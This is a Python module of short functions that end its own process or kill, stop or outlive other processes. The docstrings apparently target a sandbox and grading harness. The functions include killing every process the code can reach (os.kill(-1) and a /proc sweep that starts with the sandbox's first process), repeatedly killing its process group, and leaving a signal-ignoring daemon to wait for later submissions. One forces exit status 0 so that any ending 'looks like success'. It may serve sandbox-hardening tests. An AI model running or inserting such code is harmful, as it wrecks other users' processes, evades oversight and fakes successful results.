"""Leaves, or ends every other process it can reach."""

import atexit
import contextlib
import ctypes
import os
import signal
import sys
import threading
import time
from pathlib import Path


def at_once() -> str:
    """Ends the process with status 0, without a word."""
    os._exit(0)


def politely() -> str:
    """Ends the program with status 0, as a script would."""
    sys.exit(0)


def by_a_signal() -> str:
    """Kills itself."""
    os.kill(os.getpid(), signal.SIGKILL)
    return ""


def halted() -> str:
    """Stops itself, so that it neither answers nor ends."""
    os.kill(os.getpid(), signal.SIGSTOP)
    return ""


def by_a_fault() -> str:
    """Reads where nothing is."""
    ctypes.string_at(0)
    return ""


def as_another_program() -> str:
    """Becomes a program that ends with status 0."""
    os.execv("/bin/true", ["true"])


def with_closed_descriptors() -> str:
    """Closes every descriptor that it has."""
    os.closerange(0, 2**16)
    return ""


def by_an_exception() -> str:
    """Raises an exception that isn't an `Exception`, to end the server's loop."""
    raise KeyboardInterrupt


def when_it_ends() -> str:
    """Makes the end of the process look like success, whatever comes before."""
    atexit.register(os._exit, 0)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        with contextlib.suppress(ValueError):
            signal.signal(number, lambda *_: os._exit(0))
    return ""


def soon() -> str:
    """Ends the process in the middle of a test."""
    threading.Timer(0.05, os._exit, (0,)).start()
    return ""


def everybody() -> str:
    """Kills every process that it may."""
    os.kill(-1, signal.SIGKILL)
    return ""


def one_by_one() -> str:
    """Kills every process that it sees, the sandbox's first, and stops those that it cannot kill."""
    own = os.getpid()
    numbers = {1, os.getppid(), *(int(folder.name) for folder in Path("/proc").glob("[0-9]*"))} - {own, 0}
    for number in sorted(numbers):
        for sent in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(number, sent)
    return ""


def its_group() -> str:
    """Kills its process group again and again, whatever namespaces its other members are in."""

    def kill() -> None:
        for _ in range(100):
            os.killpg(0, signal.SIGKILL)
            time.sleep(0.05)

    threading.Thread(target=kill, daemon=True).start()
    return ""


def by_an_owner() -> str:
    """Lets the kernel kill its process group, as the owner of a pipe that becomes readable."""
    import fcntl

    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, -os.getpgrp() or -1)
    fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"x")
    return ""


def as_a_daemon() -> str:
    """Leaves a process behind that doesn't belong to any other, and waits for the submissions that come later."""
    if not os.fork():
        os.setsid()
        if os.fork():
            os._exit(0)
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: don't die with the parent
        for name in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(name, signal.SIG_IGN)
        end = time.monotonic() + 120
        while time.monotonic() < end:
            time.sleep(0.2)
        os._exit(0)
    return ""


def with_a_deaf_thread() -> str:
    """Ignores every signal and the end of the line, with the interpreter's lock in its hands."""
    for number in range(1, 32):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    ctypes.PyDLL(None).sleep(60)
    return ""
